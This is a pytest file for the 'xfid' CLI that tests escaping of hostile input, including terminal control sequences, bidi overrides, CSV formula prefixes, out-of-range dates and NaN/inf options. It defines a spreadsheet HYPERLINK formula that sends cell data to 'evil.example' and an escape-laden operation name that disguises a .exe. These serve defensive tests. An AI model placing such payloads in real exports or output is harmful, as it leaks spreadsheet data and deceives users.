"""Hostile and careless input that is not a store or adapter matter: terminal escapes, CSV
formulas, out-of-range periods, odd issue ids, non-finite numeric options, unknown targets."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import pytest

from tests.test_engine_helpers import rec, write_csv
from xfid.errors import ReportError, TrackerError
from xfid.report.period import resolve_period
from xfid.textsafe import csv_cell, terminal
from xfid.tracker.lifecycle import check_waiver, parse_id

ESC = "\x1b"
EVIL_OP = f"qkv{ESC}]0;owned\x07{ESC}[2J\u202etxt.exe"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_terminal_escapes_controls_and_bidi_but_keeps_newlines_and_tabs():
    assert terminal("a\tb\nc") == "a\tb\nc"
    assert terminal(f"x{ESC}[31m\x00\x7f\x85\u202e\u2066\u200f") == "x\\x1b[31m\\x00\\x7f\\x85\\u202e\\u2066\\u200f"
    assert terminal("µs → ok, 日本") == "µs → ok, 日本"  # ordinary non-ASCII is left alone


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_csv_cell_prefixes_formula_starts(text):
    assert csv_cell(text) == "'" + text and csv_cell("plain") == "plain" and csv_cell("") == ""


@pytest.fixture
def hostile(xfid_cli, tmp_path):
    d = tmp_path / "in"
    d.mkdir()
    write_csv(d / "m.csv", [rec("measured", EVIL_OP, 1.0, workload=FORMULA), rec("measured", "-plain", 1.0)])
    write_csv(d / "r.csv", [rec("archmodel", EVIL_OP, 2.0, workload=FORMULA), rec("archmodel", "-plain", 0.5)])
    r = xfid_cli("ingest", "--adapter", "xfid-records", d)
    assert r.exit_code == 0, r.output
    return xfid_cli


@pytest.mark.parametrize("fmt", ["table", "markdown"])
def test_correlate_prints_no_raw_control_or_bidi_characters(hostile, fmt):
    r = hostile("correlate", "--format", fmt)
    assert r.exit_code == 0, r.output
    assert ESC not in r.output and "\u202e" not in r.output and "\x07" not in r.output
    assert "qkv\\x1b" in r.output.replace("\\\\", "\\") and "\\u202etxt" in r.output.replace("\\\\", "\\")


def test_ingest_output_escapes_a_hostile_file_name(xfid_cli, tmp_path):
    f = tmp_path / f"evil{ESC}[2J\u202e.csv"
    write_csv(f, [rec("measured", "op", 1.0)])
    r = xfid_cli("ingest", "--adapter", "xfid-records", f)
    assert r.exit_code == 0, r.output
    assert ESC not in r.output and "\u202e" not in r.output and "evil\\x1b[2J\\u202e.csv" in r.output


def test_export_csv_defuses_formulas_in_text_only(hostile, tmp_path):
    for out in (None, tmp_path / "e.csv"):
        r = hostile("export", "--format", "csv", *(("-o", out) if out else ()))
        assert r.exit_code == 0, r.output
        text = out.read_text() if out else r.output
        rows = list(csv.DictReader(io.StringIO(text)))
        assert {row["workload"] for row in rows} == {"'" + FORMULA, "w1"}
        assert {row["op"] for row in rows} == {"'-plain", EVIL_OP}  # text starting with - is defused
        assert {row["value"] for row in rows} == {"1", "2", "0.5"}  # numbers are never prefixed
    jsonl = [json.loads(x) for x in hostile("export").output.splitlines()]
    assert FORMULA in {x["workload"] for x in jsonl}  # JSON keeps the value as it was


def test_correlate_csv_defuses_formulas_in_text_only(hostile):
    r = hostile("correlate", "--format", "csv")
    assert r.exit_code == 0, r.output
    rows = list(csv.DictReader(io.StringIO(r.output)))
    assert {row["workload"] for row in rows} == {"'" + FORMULA, "w1"}
    assert "-0.5" in {row["rel_error"] for row in rows}  # a negative number is a number, not a formula
    assert "'-plain" in {row["op"] for row in rows}


@pytest.mark.parametrize(("args", "message"), [
    (("0001-W01", None, None), "the year must be 1970..2198"),
    (("9999-W52", None, None), "the year must be 1970..2198"),
    (("0000-W01", None, None), "the year must be"),
    (("\u0662\u0660\u0662\u0666-W48", None, None), "is not an ISO week"),
    ((None, "0001-01-01", None), "since '0001-01-01' is out of range"),
    ((None, None, "9999-12-31"), "until '9999-12-31' is out of range"),
    ((None, "\u0662\u0660\u0662\u0666-11-01", None), "is not a date"),
])
def test_report_periods_out_of_range_are_errors(args, message):
    with pytest.raises(ReportError, match=message):
        resolve_period(*args)


def test_report_cli_week_out_of_range(xfid_cli):
    r = xfid_cli("report", "--week", "9999-W52", "--html", "-o", "x.html")
    assert r.exit_code == 2 and r.output.startswith("Error: --week '9999-W52'")


@pytest.mark.parametrize("text", ["XF-\u0661\u0662", "\u0661\u0662", "XF-99999999999999999999", "XF-9223372036854775808"])
def test_odd_issue_ids_are_bad_ids(text):
    with pytest.raises(TrackerError, match="bad issue id"):
        parse_id(text)


def test_issue_cli_refuses_odd_ids(hostile):
    for text in ("XF-\u0661\u0662", "XF-99999999999999999999"):
        r = hostile("issues", "show", text)
        assert r.exit_code == 2 and "Error: bad issue id" in r.output, r.output


def test_waiver_horizon_and_finite_max_error():
    today = date(2026, 12, 1)
    assert check_waiver("XF-1", "r", "2031-11-30", 0.2, today)[1] == date(2031, 11, 30)
    with pytest.raises(TrackerError, match="more than five years away"):
        check_waiver("XF-1", "r", "9999-12-31", None, today)
    for bad in (float("inf"), float("nan"), -0.1):
        with pytest.raises(TrackerError, match="max_error"):
            check_waiver("XF-1", "r", "2027-01-01", bad, today)


@pytest.mark.parametrize(("args", "message"), [
    (("history", "x", "--alpha", "nan"), "'nan' is not a finite number"),
    (("history", "x", "--alpha", "1"), "is not in the range 0<x<1"),
    (("history", "x", "--alpha", "inf"), "'inf' is not a finite number"),
    (("issues", "list", "--severity-min", "nan"), "'nan' is not a finite number"),
    (("issues", "list", "--severity-min", "-1"), "is not in the range x>=0"),
    (("issues", "waive", "XF-1", "--reason", "r", "--until", "2027-01-01", "--max-error", "inf"),
     "'inf' is not a finite number"),
])
def test_numeric_options_refuse_nan_inf_and_out_of_range(xfid_cli, args, message):
    r = xfid_cli(*args)
    assert r.exit_code == 2 and "Error: Invalid value for" in r.output and message in r.output, r.output


def test_unknown_target_warns_with_close_names(xfid_cli, tmp_path):
    f = tmp_path / "m.csv"
    write_csv(f, [{k: v for k, v in rec("measured", "op", 1.0).items() if k != "target"}])
    r = xfid_cli("ingest", "--adapter", "xfid-records", "--target", "h100-sxm5", f)
    assert r.exit_code == 0, r.output
    assert "warning: target 'h100-sxm5' is neither a configured target nor in the store" in r.stderr
    assert "did you mean h100-sxm" in r.stderr
    g = tmp_path / "n.csv"
    write_csv(g, [{k: v for k, v in rec("measured", "op2", 1.0).items() if k != "target"}])
    again = xfid_cli("ingest", "--adapter", "xfid-records", "--target", "h100-sxm5", g)
    assert again.exit_code == 0 and "warning" not in again.stderr  # known now: the store holds it
    ok = xfid_cli("ingest", "--adapter", "xfid-records", "--target", "h100-sxm", f)
    assert "warning: target" not in ok.stderr


def test_unknown_sidecar_target_warns(xfid_cli, tmp_path):
    d = tmp_path / "runs"
    (d / "sub").mkdir(parents=True)
    write_csv(d / "sub" / "m.csv", [{k: v for k, v in rec("measured", "op", 1.0).items() if k != "target"}])
    (d / "sub" / "xfid-source.toml").write_text('adapter = "xfid-records"\ntarget = "h200-sxn"\n')
    r = xfid_cli("ingest", d)
    assert r.exit_code == 0, r.output
    assert "warning: target 'h200-sxn' is neither" in r.stderr and "did you mean h200-sxm" in r.stderr
    (d / "sub" / "xfid-source.toml").write_text('adapter = "xfid-records"\ntarget = "h200-sxm"\n')
    assert "warning" not in xfid_cli("ingest", d).stderr


def test_sources_and_errors_escape_hostile_names(xfid_cli, tmp_path):
    f = tmp_path / f"evil{ESC}]0;x\x07\u202e.csv"
    write_csv(f, [rec("measured", "op", 1.0)])
    assert xfid_cli("ingest", "--adapter", "xfid-records", f).exit_code == 0
    r = xfid_cli("sources")
    assert r.exit_code == 0 and ESC not in r.output and "\u202e" not in r.output and "evil\\x1b]0;x\\x07" in r.output
    bad = tmp_path / f"bad{ESC}[2J.csv"
    bad.write_text("fidelity,value\nmeasured,not-a-number\n")
    e = xfid_cli("ingest", "--adapter", "xfid-records", bad)
    assert e.exit_code == 2 and e.output.startswith("Error: ") and ESC not in e.output and "bad\\x1b[2J" in e.output


def test_issue_list_csv_and_table_are_safe(hostile):
    assert hostile("check").exit_code == 0
    r = hostile("issues", "list", "--format", "csv")
    assert r.exit_code == 0, r.output
    rows = list(csv.DictReader(io.StringIO(r.output)))
    assert rows and {row["workload"] for row in rows} <= {"'" + FORMULA, "w1"} and "'-plain" in {row["op"] for row in rows}
    t = hostile("issues", "list")
    assert ESC not in t.output and "\u202e" not in t.output


def test_drift_thresholds_refuse_nan_and_inf_from_the_library_too():
    from xfid.drift.drift import Thresholds
    from xfid.errors import XfidError

    for bad in (float("nan"), float("inf"), -0.01):
        with pytest.raises(XfidError, match="error_abs must be a finite non-negative number"):
            Thresholds.from_config({"error_abs": bad})
